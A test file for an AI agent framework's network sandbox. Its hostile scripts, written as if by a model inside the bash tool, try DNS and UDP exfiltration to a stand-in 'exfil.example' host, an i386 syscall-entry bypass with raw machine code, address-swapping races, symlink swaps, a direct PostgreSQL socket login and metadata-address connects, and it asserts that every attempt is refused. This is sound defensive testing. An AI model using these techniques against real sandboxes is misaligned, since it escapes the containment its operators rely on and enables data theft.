"""The network wall, tried as an attacker would: hostile scripts run through the real
`bash` tool (and a tools.yaml CLI tool) against real listeners — TCP, UDP, a fake DNS
resolver, unix sockets under /tmp, PostgreSQL's own socket — under each network mode.
Every listener counts what reaches it: a refused attack is one that delivered nothing.

Under `PARLEY_REQUIRE_SANDBOX=1` (CI) a kernel without Landlock or seccomp user
notification fails these tests instead of skipping them; under
`PARLEY_REQUIRE_POSTGRES=1` so does a missing PostgreSQL socket."""

from __future__ import annotations

import asyncio
import errno
import ipaddress
import json
import os
import pwd
import shutil
import socket
import sys
import tempfile
from collections.abc import AsyncIterator, Iterator
from dataclasses import dataclass, field
from pathlib import Path

import pytest

from core.messages import ToolCall
from core.sandbox import landlock
from core.sandbox.settings import SandboxSettings
from core.tools.base import ToolContext, ToolRegistry
from core.tools.builtin import builtin_tools
from core.tools.cli import CliTool, CliToolSpec
from core.tools.executor import ToolExecutor
from core.tools.policy import ToolPolicy
from tests.process import REPO, child_env, parley, write_config

PG_DIR = Path("/var/run/postgresql")
PG_SOCKET = PG_DIR / ".s.PGSQL.5432"


def _require(reason: str, env: str) -> None:
    if os.environ.get(env) == "1":
        pytest.fail(f"{reason}, and {env}=1")
    pytest.skip(reason)


@pytest.fixture(autouse=True)
def _sandbox() -> None:
    if landlock.abi_version() < 4:
        _require("this kernel has no Landlock network rules (ABI 4)", "PARLEY_REQUIRE_SANDBOX")
    try:
        from core.sandbox import seccomp
    except ImportError:
        return  # the code before the network wall: the attacks must show it open
    if not seccomp.supervision_available():
        _require("this kernel has no seccomp user notification", "PARLEY_REQUIRE_SANDBOX")


_OPENED: list[SandboxSettings] = []


@pytest.fixture(autouse=True)
def _close_jails() -> Iterator[None]:
    # A jail holds a descriptor per rule: an ordinary user's 1024 would run out.
    yield
    while _OPENED:
        jail = _OPENED.pop()._cache.pop("jail", None)
        if jail is not None:
            jail.close()


@pytest.fixture
def postgres() -> None:
    if not PG_SOCKET.exists():
        _require(f"no PostgreSQL socket at {PG_SOCKET}", "PARLEY_REQUIRE_POSTGRES")


# --- listeners that count what reaches them -------------------------------------------------


class _Datagrams(asyncio.DatagramProtocol):
    def __init__(self, hits: list[bytes]) -> None:
        self.hits = hits

    def datagram_received(self, data: bytes, addr: object) -> None:
        self.hits.append(data)


@dataclass
class Listeners:
    """Real servers on loopback and under /tmp, each counting what reached it."""

    dir: Path  # a world-traversable dir under /tmp (the tools' user may reach it)
    tcp_port: int = 0
    udp_port: int = 0
    dns_port: int = 0
    hits: dict[str, list[object]] = field(default_factory=dict)
    peers: list[int] = field(default_factory=list)  # SO_PEERCRED uids of unix clients

    def path(self, name: str) -> Path:
        return self.dir / name

    async def stream(self, name: str, path: Path | None = None) -> asyncio.Server:
        hits = self.hits.setdefault(name, [])

        def accepted(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
            sock = writer.get_extra_info("socket")
            if sock is not None and sock.family == socket.AF_UNIX:
                creds = sock.getsockopt(socket.SOL_SOCKET, socket.SO_PEERCRED, 12)
                self.peers.append(int.from_bytes(creds[4:8], "little"))
            hits.append(1)
            writer.write(b"hello\n")
            writer.close()

        server = await asyncio.start_unix_server(accepted, path or self.path(name))
        os.chmod(path or self.path(name), 0o777)
        return server


@pytest.fixture
async def listeners() -> AsyncIterator[Listeners]:
    holder = Path(tempfile.mkdtemp(dir="/tmp", prefix="parley-net-"))
    os.chmod(holder, 0o755)
    found = Listeners(holder)
    loop = asyncio.get_running_loop()
    tcp_hits = found.hits.setdefault("tcp", [])
    tcp = await asyncio.start_server(lambda r, w: (tcp_hits.append(1), w.close()), "127.0.0.1", 0)
    found.tcp_port = tcp.sockets[0].getsockname()[1]
    transports = []
    for name in ("udp", "dns"):
        hits = found.hits.setdefault(name, [])
        transport, _ = await loop.create_datagram_endpoint(
            lambda hits=hits: _Datagrams(hits),  # type: ignore[misc]
            local_addr=("127.0.0.1", 0),
        )
        transports.append(transport)
        setattr(found, f"{name}_port", transport.get_extra_info("sockname")[1])
    dgram_hits = found.hits.setdefault("unix-dgram", [])
    transport, _ = await loop.create_datagram_endpoint(
        lambda: _Datagrams(dgram_hits),  # type: ignore[arg-type]
        local_addr=str(found.path("dgram.sock")),
        family=socket.AF_UNIX,
    )
    os.chmod(found.path("dgram.sock"), 0o777)
    transports.append(transport)
    servers = [tcp, await found.stream("unix")]
    try:
        yield found
    finally:
        for server in servers:
            server.close()
        for transport in transports:
            transport.close()
        shutil.rmtree(holder, ignore_errors=True)


# --- the tool path --------------------------------------------------------------------------

COMMON = r"""
import ctypes, errno, socket, struct, sys, threading, time
libc = ctypes.CDLL(None, use_errno=True)
def report(name, attempt):
    try:
        attempt()
        print(f"RESULT {name} ok", flush=True)
    except OSError as exc:
        print(f"RESULT {name} err {exc.errno}", flush=True)
"""


def settings_for(root: Path, **changes: object) -> SandboxSettings:
    settings = SandboxSettings(
        workspace=root / "ws", artifacts_dir=root / "artifacts", default_timeout=30, **changes
    )
    _OPENED.append(settings)  # its jail, made at the first call, is closed after the test
    return settings


async def bash_tool(settings: SandboxSettings, command: str) -> str:
    """`command` through the real bash tool: seatbelt, executor, sandbox."""
    executor = ToolExecutor(ToolRegistry(builtin_tools()), ToolPolicy(), ToolContext(settings))
    call = ToolCall(id="c1", name="bash", arguments=json.dumps({"command": command}))
    return (await executor.execute(call)).content


async def attack(settings: SandboxSettings, body: str, *args: object) -> dict[str, str]:
    """Run a hostile Python script (a file the model wrote, as an attacker would) through
    the bash tool; what each attempt reported: "ok" or "err <errno>"."""
    ws = settings.resolved_workspace()
    ws.mkdir(parents=True, exist_ok=True)
    (ws / "attack.py").write_text(COMMON + body)
    argv = " ".join(f"'{a}'" for a in args)
    output = await bash_tool(settings, f"python3 attack.py {argv}; echo ran")
    assert "ran" in output, output
    results = {}
    for line in output.splitlines():
        if line.startswith("RESULT "):
            _, name, outcome = line.split(" ", 2)
            results[name] = outcome
    return results


def refused(outcome: str, *codes: int) -> bool:
    """The attempt failed, with one of `codes` when given."""
    if not outcome.startswith("err"):
        return False
    return not codes or int(outcome.split()[1]) in codes


# --- network = false ------------------------------------------------------------------------

DNS_QUERY = r"""
def dns_query(name):
    header = struct.pack("!HHHHHH", 0x1234, 0x0100, 1, 0, 0, 0)
    labels = b"".join(bytes([len(p)]) + p.encode() for p in name.split(".")) + b"\0"
    return header + labels + struct.pack("!HH", 1, 1)
"""

CLOSED_ATTACKS = {
    "tcp": 'socket.create_connection(("127.0.0.1", int(sys.argv[1])), timeout=3)',
    "udp": 'socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"leak", ("127.0.0.1", int(sys.argv[2])))',  # noqa: E501
    "dns": 'socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(dns_query("c2VjcmV0.exfil.example"), ("127.0.0.1", int(sys.argv[3])))',  # noqa: E501
    "unix": "socket.socket(socket.AF_UNIX).connect(sys.argv[4])",
    "unix-dgram": 'socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)[0].sendto(b"leak", sys.argv[5])',  # noqa: E501
    "netlink": "socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0)",
    "io_uring": "(lambda fd: fd >= 0 or (_ for _ in ()).throw(OSError(ctypes.get_errno(), 'x')))(libc.syscall(425, 8, ctypes.create_string_buffer(120)))",  # noqa: E501
    "pg": f"socket.socket(socket.AF_UNIX).connect('{PG_SOCKET}')",
}


@pytest.mark.parametrize("name", list(CLOSED_ATTACKS))
async def test_network_false_leaves_no_socket_to_reach_out_with(
    tmp_path: Path, listeners: Listeners, name: str
) -> None:
    if name == "pg" and not PG_SOCKET.exists():
        pytest.skip("no PostgreSQL socket")
    body = DNS_QUERY + f"report({name!r}, lambda: {CLOSED_ATTACKS[name]})\n"
    ports = (listeners.tcp_port, listeners.udp_port, listeners.dns_port)
    paths = (listeners.path("unix"), listeners.path("dgram.sock"))
    results = await attack(settings_for(tmp_path, network=False), body, *ports, *paths)
    assert refused(results[name]), results
    for target in ("tcp", "udp", "dns", "unix", "unix-dgram"):
        assert listeners.hits[target] == [], target


async def test_network_false_keeps_socketpair(tmp_path: Path) -> None:
    body = (
        "def pair():\n"
        "    a, b = socket.socketpair()\n"
        "    a.sendall(b'x'); assert b.recv(1) == b'x'\n"
        "report('pair', pair)\n"
    )
    results = await attack(settings_for(tmp_path, network=False), body)
    assert results["pair"] == "ok"


I386 = r"""
import mmap
libc.mmap.restype = ctypes.c_void_p
libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t] + [ctypes.c_int] * 3 + [ctypes.c_long]
def page(prot):  # below 4 GiB: the i386 entry sees 32-bit pointers
    return libc.mmap(None, 4096, prot, mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | 0x40, -1, 0)
code_at, data_at = page(7), page(3)
def int80(nr, a=0, b=0, c=0):
    # push rbx; mov eax, nr; mov ebx, a; mov ecx, b; mov edx, c; int 0x80; pop rbx; ret
    code = (b"\x53\xb8" + struct.pack("<I", nr) + b"\xbb" + struct.pack("<I", a) + b"\xb9"
            + struct.pack("<I", b) + b"\xba" + struct.pack("<I", c) + b"\xcd\x80\x5b\xc3")
    ctypes.memmove(code_at, code, len(code))
    result = ctypes.CFUNCTYPE(ctypes.c_long)(code_at)()
    if result < 0:
        raise OSError(-result, "i386")
    return result
def i386_connect():
    fd = int80(359, socket.AF_UNIX, socket.SOCK_STREAM, 0)  # socket
    addr = struct.pack("=H", socket.AF_UNIX) + sys.argv[1].encode() + b"\0"
    ctypes.memmove(data_at, addr, len(addr))
    int80(362, fd, data_at, len(addr))  # connect
def i386_socketcall():
    ctypes.memmove(data_at + 512, struct.pack("<III", socket.AF_INET, socket.SOCK_DGRAM, 0), 12)
    int80(102, 1, data_at + 512)  # socketcall(SYS_SOCKET, ...)
report("i386_connect", i386_connect)
report("i386_socketcall", i386_socketcall)
"""


@pytest.mark.parametrize("network", [False, True])
async def test_the_i386_syscall_entry_is_no_way_around_the_filter(
    tmp_path: Path, listeners: Listeners, network: bool
) -> None:
    if os.uname().machine != "x86_64":
        pytest.skip("the int 0x80 entry is x86_64's")
    probe = tmp_path / "probe.py"
    probe.write_text(COMMON + I386)
    async with await listeners.stream("bare"):  # the same attack, unconfined, elsewhere
        bare = await asyncio.create_subprocess_exec(
            sys.executable, probe, listeners.path("bare"), stdout=asyncio.subprocess.PIPE
        )
        out, _ = await bare.communicate()
    if b"RESULT i386_connect ok" not in out:
        pytest.skip(f"this host runs no i386 syscalls (IA32 emulation off?): {out!r}")
    results = await attack(settings_for(tmp_path, network=network), I386, listeners.path("unix"))
    assert refused(results["i386_connect"], errno.EACCES), results
    assert refused(results["i386_socketcall"], errno.EACCES), results
    assert listeners.hits["unix"] == []


# --- PostgreSQL's own socket, which trusts local connections --------------------------------

PG_STARTUP = r"""
def pg_login():
    s = socket.socket(socket.AF_UNIX)
    s.connect(sys.argv[1])
    params = b"user\0postgres\0database\0postgres\0\0"
    s.sendall(struct.pack("!ii", 8 + len(params), 196608) + params)
    answer = s.recv(9)
    if answer[:1] != b"R" or answer[5:9] != b"\0\0\0\0":
        raise OSError(errno.EPROTO, f"not logged in: {answer!r}")
report("pg_login", pg_login)
"""


@pytest.mark.parametrize("network", [False, True, "public"])
@pytest.mark.usefixtures("postgres")
async def test_a_tool_cannot_log_in_to_postgres_over_its_socket(
    tmp_path: Path, network: bool | str
) -> None:
    settings = settings_for(tmp_path, network=network)
    results = await attack(settings, PG_STARTUP, PG_SOCKET)
    assert refused(results["pg_login"], errno.EACCES), results
    if shutil.which("psql"):
        output = await bash_tool(settings, f"psql -h {PG_DIR} -U postgres -c 'select 42 as x'")
        assert "42" not in output, output
        assert "Permission denied" in output, output


@pytest.mark.usefixtures("postgres")
async def test_a_listed_postgres_socket_is_reachable_by_a_tools_yaml_tool(tmp_path: Path) -> None:
    if not shutil.which("psql"):
        pytest.skip("no psql")
    settings = settings_for(tmp_path, unix_sockets=[PG_SOCKET])
    spec = CliToolSpec(
        name="pg",
        description="Asks PostgreSQL.",
        category="read",
        cmd="psql",
        args=["-h", str(PG_DIR), "-U", "postgres", "-Atc", "select 40 + 2"],
    )
    registry = ToolRegistry([CliTool(spec, {})])
    executor = ToolExecutor(registry, ToolPolicy(), ToolContext(settings))
    result = await executor.execute(ToolCall(id="c1", name="pg", arguments="{}"))
    assert "42" in result.content, result.content


# --- an open network: unix sockets only as listed -------------------------------------------

UNIX_CONNECT = r"""
def unix(path):
    s = socket.socket(socket.AF_UNIX)
    s.connect(path)
    if s.recv(6) != b"hello\n":
        raise OSError(errno.EPROTO, "no greeting")
report("listed", lambda: unix(sys.argv[1]))
report("unlisted", lambda: unix(sys.argv[2]))
report("dgram", lambda: socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM).sendto(b"x", sys.argv[3]))
report("abstract", lambda: unix("\0parley-test-abstract"))
report("tcp", lambda: socket.create_connection(("127.0.0.1", int(sys.argv[4])), timeout=3))
"""


async def test_an_open_network_refuses_unlisted_unix_sockets(
    tmp_path: Path, listeners: Listeners
) -> None:
    listed = listeners.path("listed.sock")
    server = await listeners.stream("listed", listed)
    args = (listed, listeners.path("unix"), listeners.path("dgram.sock"), listeners.tcp_port)
    async with server:
        none_listed = await attack(settings_for(tmp_path), UNIX_CONNECT, *args)
        settings = settings_for(tmp_path, unix_sockets=[listed])
        one_listed = await attack(settings, UNIX_CONNECT, *args)
    assert refused(none_listed["listed"], errno.EACCES), none_listed
    assert one_listed["listed"] == "ok", one_listed
    for results in (none_listed, one_listed):
        assert refused(results["unlisted"], errno.EACCES), results
        assert refused(results["dgram"], errno.EACCES), results
        assert refused(results["abstract"], errno.EACCES), results
        assert results["tcp"] == "ok", results  # the network itself stays open
    assert listeners.hits["listed"] == [1]
    assert listeners.hits["unix"] == []
    assert listeners.hits["unix-dgram"] == []
    # The supervisor connected with the tool's credentials, not Parley's.
    uid = pwd.getpwnam("nobody").pw_uid if os.geteuid() == 0 else os.geteuid()
    assert listeners.peers == [uid]


async def test_back_to_back_calls_each_keep_their_supervisor(
    tmp_path: Path, listeners: Listeners
) -> None:
    # Each call's listener is closed as it ends and the next one may get its number: an
    # event about the old one must not end the new one (its connects would get ENOSYS).
    listed = listeners.path("listed.sock")
    server = await listeners.stream("listed", listed)
    settings = settings_for(tmp_path, unix_sockets=[listed])
    ws = settings.resolved_workspace()
    ws.mkdir(parents=True)
    (ws / "connects.sh").write_text(
        f"for i in 1 2 3 4 5; do exec 3<>/dev/tcp/127.0.0.1/{listeners.tcp_port} || exit 9; done"
    )

    async def calls() -> list[str]:
        return [await bash_tool(settings, c) for c in ("true", "bash connects.sh") * 10]

    async with server:
        batches = await asyncio.gather(*(calls() for _ in range(4)))
    outputs = [out for batch in batches for out in batch]
    failed = [out for out in outputs if "exit_code: 0" not in out]
    assert failed == [], failed[:1]
    assert len(listeners.hits["tcp"]) == 4 * 10 * 5


SWAP = r"""
import os
listed, secret, how = sys.argv[1], sys.argv[2], sys.argv[3]
if how == "socket":
    os.unlink(listed)
    os.symlink(secret, listed)
else:  # the directory on the way
    parent = os.path.dirname(listed)
    os.rename(parent, parent + ".old")
    os.symlink(os.path.dirname(secret), parent)
def unix():
    s = socket.socket(socket.AF_UNIX)
    s.connect(listed)
    s.recv(6) or (_ for _ in ()).throw(OSError(errno.EPROTO, "closed"))
report("swapped", unix)
"""


@pytest.mark.parametrize("how", ["socket", "directory"])
async def test_a_listed_path_swapped_for_a_symlink_reaches_nothing(
    tmp_path: Path, listeners: Listeners, how: str
) -> None:
    settings = settings_for(tmp_path)
    run = settings.resolved_workspace() / "run"  # a listed socket the tools can rename
    run.mkdir(parents=True)
    listed = run / "app.sock"
    server = await listeners.stream("listed", listed)
    secret = listeners.path("secret") / "app.sock"
    secret.parent.mkdir()
    secret.parent.chmod(0o755)
    hidden = await listeners.stream("secret", secret)
    async with server, hidden:
        settings = settings_for(tmp_path, unix_sockets=[listed])
        results = await attack(settings, SWAP, listed, secret, how)
    assert refused(results["swapped"], errno.EACCES), results
    assert listeners.hits["secret"] == []


RACE = r"""
listed, unlisted = (p.encode() for p in sys.argv[1:3])
def addr(path):
    return struct.pack("=H", socket.AF_UNIX) + path + b"\0" * (108 - len(path))
buf = ctypes.create_string_buffer(addr(listed), 110)
stop = False
def flip():  # rewrite the address the connect reads, as fast as we can
    a, b = addr(listed), addr(unlisted)
    while not stop:
        ctypes.memmove(buf, b, 110)
        ctypes.memmove(buf, a, 110)
threading.Thread(target=flip, daemon=True).start()
done = 0
for _ in range(300):
    s = socket.socket(socket.AF_UNIX)
    if libc.connect(s.fileno(), buf, 110) == 0:
        done += 1
    s.close()
stop = True
print(f"RESULT connected {done}")
"""


async def test_a_racing_thread_cannot_swap_the_address_after_the_check(
    tmp_path: Path, listeners: Listeners
) -> None:
    listed = listeners.path("listed.sock")
    server = await listeners.stream("listed", listed)
    async with server:
        settings = settings_for(tmp_path, unix_sockets=[listed])
        results = await attack(settings, RACE, listed, listeners.path("unix"))
    assert listeners.hits["unix"] == []  # never once
    assert int(results["connected"]) == len(listeners.hits["listed"]) > 0


# --- network = "public" ----------------------------------------------------------------------

PUBLIC = r"""
def tcp(host, port):
    family = socket.AF_INET6 if ":" in host else socket.AF_INET
    s = socket.socket(family)
    s.settimeout(3)
    s.connect((host, int(port)))
report("target", lambda: tcp(sys.argv[1], sys.argv[2]))
"""


@pytest.mark.parametrize(
    "host",
    [
        "127.0.0.1",
        "10.0.0.1",
        "169.254.169.254",
        "100.64.0.1",
        "::1",
        "::ffff:127.0.0.1",
        "fe80::1",
    ],
)
async def test_public_refuses_loopback_private_and_metadata_addresses(
    tmp_path: Path, listeners: Listeners, host: str
) -> None:
    settings = settings_for(tmp_path, network="public")
    results = await attack(settings, PUBLIC, host, listeners.tcp_port)
    assert refused(results["target"], errno.EACCES), results
    assert listeners.hits["tcp"] == []


async def test_public_attempts_a_public_address(tmp_path: Path) -> None:
    # No internet in CI: the connect reaches the kernel and ends as the host's network
    # makes it (connected, timed out, unreachable) — anything but the wall's EACCES.
    settings = settings_for(tmp_path, network="public")
    results = await attack(settings, PUBLIC, "1.1.1.1", 443)
    assert not refused(results["target"], errno.EACCES, errno.EPERM), results


UDP_TRICKS = r"""
target = ("127.0.0.1", int(sys.argv[1]))
tcp = ("127.0.0.1", int(sys.argv[2]))
def udp():
    return socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
report("sendto", lambda: udp().sendto(b"leak", target))
report("sendmsg", lambda: udp().sendmsg([b"leak"], [], 0, target))
report("connect", lambda: udp().connect(target))
mapped = ("::ffff:127.0.0.1", target[1])
report("v6mapped", lambda: socket.socket(socket.AF_INET6, socket.SOCK_DGRAM).sendto(b"x", mapped))
report("fastopen", lambda: socket.socket().sendto(b"GET /", socket.MSG_FASTOPEN, tcp))
def unspec():  # UDP reads an AF_UNSPEC address as AF_INET
    port, host = socket.htons(target[1]), socket.inet_aton(target[0])
    addr = struct.pack("=HH4s8x", socket.AF_UNSPEC, port, host)
    s = udp()
    if libc.sendto(s.fileno(), b"leak", 4, 0, addr, 16) < 0:
        raise OSError(ctypes.get_errno(), "sendto")
report("unspec", unspec)
"""


async def test_public_datagrams_and_fast_open_cannot_reach_loopback(
    tmp_path: Path, listeners: Listeners
) -> None:
    settings = settings_for(tmp_path, network="public")
    results = await attack(settings, UDP_TRICKS, listeners.udp_port, listeners.tcp_port)
    for name in ("sendto", "sendmsg", "connect", "v6mapped", "unspec"):
        assert refused(results[name], errno.EACCES), (name, results)
    assert refused(results["fastopen"]), results
    assert listeners.hits["udp"] == []
    assert listeners.hits["tcp"] == []


SEND_RACE = r"""
def addr(host, port):
    return struct.pack("=HH4s8x", socket.AF_INET, socket.htons(port), socket.inet_aton(host))
public, local = addr("1.1.1.1", 9), addr("127.0.0.1", int(sys.argv[1]))
buf = ctypes.create_string_buffer(public, 16)
stop = False
def flip():
    while not stop:
        ctypes.memmove(buf, local, 16)
        ctypes.memmove(buf, public, 16)
threading.Thread(target=flip, daemon=True).start()
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
sent = sum(libc.sendto(s.fileno(), b"leak", 4, 0, buf, 16) == 4 for _ in range(300))
stop = True
print(f"RESULT sent {sent}")
"""


async def test_public_a_racing_thread_cannot_redirect_a_datagram(
    tmp_path: Path, listeners: Listeners
) -> None:
    settings = settings_for(tmp_path, network="public")
    await attack(settings, SEND_RACE, listeners.udp_port)
    await asyncio.sleep(0.2)  # anything in flight on loopback has landed by now
    assert listeners.hits["udp"] == []


def test_the_public_rule_on_addresses() -> None:
    from core.sandbox.netpolicy import Destination, PublicOnly, is_public, parse_inet

    ip = ipaddress.ip_address
    for text in (
        "1.1.1.1", "8.8.8.8", "2606:4700:4700::1111", "::ffff:1.1.1.1", "64:ff9b::808:808",
        "2002:101:101::1",
    ):  # fmt: skip
        assert is_public(ip(text)), text
    for text in (
        "127.0.0.1", "10.1.2.3", "172.16.0.1", "192.168.1.1", "169.254.169.254", "100.64.0.1",
        "0.0.0.0", "224.0.0.1", "255.255.255.255", "::", "::1", "fe80::1", "fc00::1",
        "fd12::1", "ff02::1", "::ffff:127.0.0.1", "::ffff:169.254.169.254", "::127.0.0.1",
        "64:ff9b::7f00:1", "2002:7f00:1::1", "2002:a00:1::1", "2001::1", "2001:db8::1",
    ):  # fmt: skip
        assert not is_public(ip(text)), text
    resolver = PublicOnly(frozenset({ip("127.0.0.53")}))
    assert resolver.allows(Destination(ip("127.0.0.53"), 53))
    assert not resolver.allows(Destination(ip("127.0.0.53"), 54))
    assert not resolver.allows(Destination(ip("127.0.0.1"), 53))
    # The kernel reads an AF_UNSPEC address as AF_INET for a UDP send, and an AF_INET
    # address on an AF_INET6 socket as IPv4; a connect to AF_UNSPEC disconnects.
    raw = bytes([0, 0, 0, 53, 127, 0, 0, 1]) + bytes(8)
    assert parse_inet(socket.AF_INET, raw, connect=False) == Destination(ip("127.0.0.1"), 53)
    assert parse_inet(socket.AF_INET, raw, connect=True) == Destination(None)
    v4 = socket.AF_INET.to_bytes(2, sys.byteorder) + raw[2:]
    assert parse_inet(socket.AF_INET6, v4, connect=True).ip == ip("127.0.0.1")


async def test_public_resolves_names_through_the_configured_nameserver(tmp_path: Path) -> None:
    from core.sandbox.netpolicy import is_public, nameservers

    servers = sorted(nameservers(), key=str)
    if not servers:
        pytest.skip("no nameserver in /etc/resolv.conf")
    body = (
        "ns = sys.argv[1]\n"
        "fam = socket.AF_INET6 if ':' in ns else socket.AF_INET\n"
        "report('port53', lambda: socket.socket(fam, socket.SOCK_DGRAM).connect((ns, 53)))\n"
        "report('port54', lambda: socket.socket(fam, socket.SOCK_DGRAM).connect((ns, 54)))\n"
    )
    results = await attack(settings_for(tmp_path, network="public"), body, servers[0])
    assert results["port53"] == "ok", results
    if not is_public(servers[0]):
        assert refused(results["port54"], errno.EACCES), results


# --- configuration and start-up -------------------------------------------------------------


def test_each_mode_says_what_it_enforces(tmp_path: Path) -> None:
    from core.sandbox.jail import Jail

    closed = Jail(settings_for(tmp_path, network=False)).describe()
    assert "network closed (no socket but a unix socketpair)" in closed
    assert "network open; unix sockets: none" in Jail(settings_for(tmp_path)).describe()
    listed = Jail(settings_for(tmp_path, unix_sockets=[PG_SOCKET])).describe()
    assert f"unix sockets: only {PG_SOCKET.resolve()}" in listed
    public = Jail(settings_for(tmp_path, network="public")).describe()
    assert "network public (no loopback, private, link-local or metadata addresses" in public


@pytest.mark.parametrize(
    ("changes", "key"),
    [
        ({"network": "public", "sandbox": "off"}, "tools.network"),
        ({"unix_sockets": ["run/x.sock"]}, "tools.unix_sockets"),
        ({"network": False, "unix_sockets": ["/run/x.sock"]}, "tools.unix_sockets"),
    ],
)
def test_a_network_setting_that_cannot_hold_is_a_config_error(
    tmp_path: Path, changes: dict[str, object], key: str
) -> None:
    from core.errors import ConfigError
    from core.sandbox.jail import Jail

    with pytest.raises(ConfigError) as caught:
        Jail(settings_for(tmp_path, **changes))
    assert caught.value.key == key


async def test_start_up_exits_2_when_public_cannot_be_enforced(tmp_path: Path) -> None:
    config = write_config(tmp_path)
    config.write_text(
        config.read_text().replace("[tools]\n", '[tools]\nnetwork = "public"\nsandbox = "off"\n')
    )
    (tmp_path / "tools.yaml").write_text("tools: []\n")
    env = child_env(OPENAI_API_KEY="sk-test")
    code, _out, err = await parley("--config", str(config), "chat", "-m", "hi", env=env)
    assert code == 2, err
    assert "tools.network" in err
    assert '"public" needs the kernel sandbox' in err


# --- as an ordinary user --------------------------------------------------------------------

AS_USER = r"""
import asyncio, contextlib, json, os, sys
sys.path.insert(0, sys.argv[1])
from tests.tools.test_wall_network import attack, settings_for, PG_STARTUP
from pathlib import Path
with contextlib.suppress(ImportError):  # imported while still root: Python is under /root
    from core.sandbox import netsend, netsupervisor
uid, gid = int(sys.argv[4]), int(sys.argv[5])
os.setgroups([])
os.setresgid(gid, gid, gid)
os.setresuid(uid, uid, uid)
async def main():
    base, pg = Path(sys.argv[2]), sys.argv[3]
    for name, changes in (("closed", {"network": False}), ("open", {}),
                          ("listed", {"unix_sockets": [pg]})):
        results = await attack(settings_for(base / name, **changes), PG_STARTUP, pg)
        print(json.dumps({name: results["pg_login"]}), flush=True)
asyncio.run(main())
"""


@pytest.mark.usefixtures("postgres")
async def test_a_non_root_parleys_tools_get_no_peer_authenticated_socket() -> None:
    # Parley as an ordinary user gives its tools its own uid: PostgreSQL (here: trust;
    # with peer auth alike) would admit them as that user. Only a listed socket is open.
    if os.geteuid() != 0:
        pytest.skip("switching to the ordinary user needs root")
    try:
        user = pwd.getpwnam("parleytest")
    except KeyError:
        pytest.skip("no user parleytest")
    holder = tempfile.TemporaryDirectory(dir="/tmp", prefix="parley-user-")
    os.chown(holder.name, user.pw_uid, user.pw_gid)
    env = {"PATH": os.environ["PATH"], "HOME": holder.name, "TMPDIR": holder.name}
    env |= {k: v for k, v in os.environ.items() if k.startswith("PARLEY_REQUIRE")}
    proc = await asyncio.create_subprocess_exec(
        sys.executable, "-c", AS_USER, str(REPO), holder.name, str(PG_SOCKET),
        str(user.pw_uid), str(user.pw_gid),
        stdout=asyncio.subprocess.PIPE, stderr=asyncio.subprocess.PIPE, env=env, cwd=holder.name,
    )  # fmt: skip
    out, err = await asyncio.wait_for(proc.communicate(), 120)
    holder.cleanup()
    seen: dict[str, str] = {}
    for line in out.decode().splitlines():
        seen |= json.loads(line)
    assert refused(seen.get("closed", "none"), errno.EACCES), (seen, err.decode())
    assert refused(seen.get("open", "none"), errno.EACCES), (seen, err.decode())
    assert seen.get("listed") == "ok", (seen, err.decode())
